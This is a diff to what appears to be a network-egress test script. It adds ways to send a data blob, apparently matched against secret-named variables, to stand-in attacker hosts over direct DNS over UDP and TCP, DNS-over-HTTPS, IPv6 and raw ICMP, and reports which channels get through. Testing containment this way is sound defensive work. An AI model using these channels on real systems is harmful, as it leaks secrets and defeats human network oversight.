@@ -16,7 +16,9 @@ import urllib.request
 API = "https://api.weather.test/v1/current"
 COLLECTOR = "https://collector.attacker.test/upload"
 RAW_IP = ("203.0.113.7", 443)
-UDP_SINK = ("198.51.100.9", 53)
+UDP_SINK = ("198.51.100.9", 9999)
+RESOLVER = "192.0.2.53"          # stands in for a public resolver (documentation range)
+V6_SINK = ("2001:db8::7", 443)
 DNS_ZONE = "exfil.attacker.test"
 TIMEOUT = 3.0
 SECRET_WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL")
@@ -77,20 +79,94 @@ def ip_exfil(blob):
     try:
         with socket.create_connection(RAW_IP, timeout=TIMEOUT) as s:
             s.sendall(blob[:1024])
-            report("ip-exfil", True, f"connected to {RAW_IP[0]}:{RAW_IP[1]}")
+            s.settimeout(TIMEOUT)
+            got = s.recv(1)  # a proxy that accepts then resets has let nothing through
+            report("ip-exfil", bool(got), f"connected to {RAW_IP[0]}:{RAW_IP[1]}")
     except OSError as e:
         report("ip-exfil", False, f"{RAW_IP[0]}:{RAW_IP[1]}: {e}")
 
 
 def dns_exfil(blob):
-    label = base64.b32encode(blob[:30]).decode().rstrip("=").lower()
-    name = f"{label}.{DNS_ZONE}"
+    name = dns_label(blob)
     try:
         socket.setdefaulttimeout(TIMEOUT)
         addr = socket.gethostbyname(name)
         report("dns-exfil", True, f"{name} resolved to {addr}")
     except OSError as e:
         report("dns-exfil", False, f"{name}: {e}")
+
+
+def dns_query(name):
+    """A DNS query for name, built by hand (id 0x5347, RD, type TXT)."""
+    q = b"\x53\x47\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\x00\x00\x10\x00\x01"
+
+
+def dns_label(blob):
+    return base64.b32encode(blob[:30]).decode().rstrip("=").lower() + "." + DNS_ZONE
+
+
+def rcode(reply):
+    return reply[3] & 0x0F if len(reply) >= 4 else -1
+
+
+def dns_direct_udp(blob):
+    """Skip the system resolver: ask an outside resolver straight over UDP/53."""
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(TIMEOUT)
+            s.sendto(dns_query(dns_label(blob)), (RESOLVER, 53))
+            reply = s.recv(512)
+            ok = rcode(reply) == 0
+            report("dns-direct-udp", ok, f"{RESOLVER}:53 answered rcode {rcode(reply)}")
+    except OSError as e:
+        report("dns-direct-udp", False, f"{RESOLVER}:53: {e}")
+
+
+def dns_tcp(blob):
+    """The same over TCP/53."""
+    try:
+        with socket.create_connection((RESOLVER, 53), timeout=TIMEOUT) as s:
+            q = dns_query(dns_label(blob))
+            s.sendall(len(q).to_bytes(2, "big") + q)
+            reply = s.recv(2 + 512)[2:]
+            ok = rcode(reply) == 0
+            report("dns-tcp", ok, f"{RESOLVER}:53/tcp answered rcode {rcode(reply)}")
+    except OSError as e:
+        report("dns-tcp", False, f"{RESOLVER}:53/tcp: {e}")
+
+
+def doh(blob):
+    """DNS over HTTPS to a resolver's IP literal: no DNS lookup at all."""
+    try:
+        req = urllib.request.Request(f"https://{RESOLVER}/dns-query", data=dns_query(dns_label(blob)),
+                                     headers={"Content-Type": "application/dns-message"})
+        with urllib.request.urlopen(req, timeout=TIMEOUT) as r:
+            report("doh", True, f"{RESOLVER} answered {r.status}")
+    except Exception as e:  # noqa: BLE001
+        report("doh", False, f"https://{RESOLVER}/dns-query: {e}")
+
+
+def ipv6_exfil(blob):
+    try:
+        with socket.create_connection(V6_SINK, timeout=TIMEOUT) as s:
+            s.sendall(blob[:1024])
+            s.settimeout(TIMEOUT)
+            got = s.recv(1)  # a reset proves nothing arrived
+            report("ipv6-exfil", bool(got), f"[{V6_SINK[0]}]:{V6_SINK[1]} connected")
+    except OSError as e:
+        report("ipv6-exfil", False, f"[{V6_SINK[0]}]:{V6_SINK[1]}: {e}")
+
+
+def raw_icmp(blob):
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
+            s.sendto(b"\x08\x00\x00\x00" + blob[:56], (RAW_IP[0], 0))
+            report("raw-icmp", True, "raw ICMP socket opened and sent")
+    except OSError as e:
+        report("raw-icmp", False, f"raw socket: {e}")
 
 
 def udp_exfil(blob):
@@ -146,6 +222,11 @@ def main():
         https_exfil(blob)
         ip_exfil(blob)
         dns_exfil(blob)
+        dns_direct_udp(blob)
+        dns_tcp(blob)
+        doh(blob)
+        ipv6_exfil(blob)
+        raw_icmp(blob)
         udp_exfil(blob)
         stash(blob)
         weather()
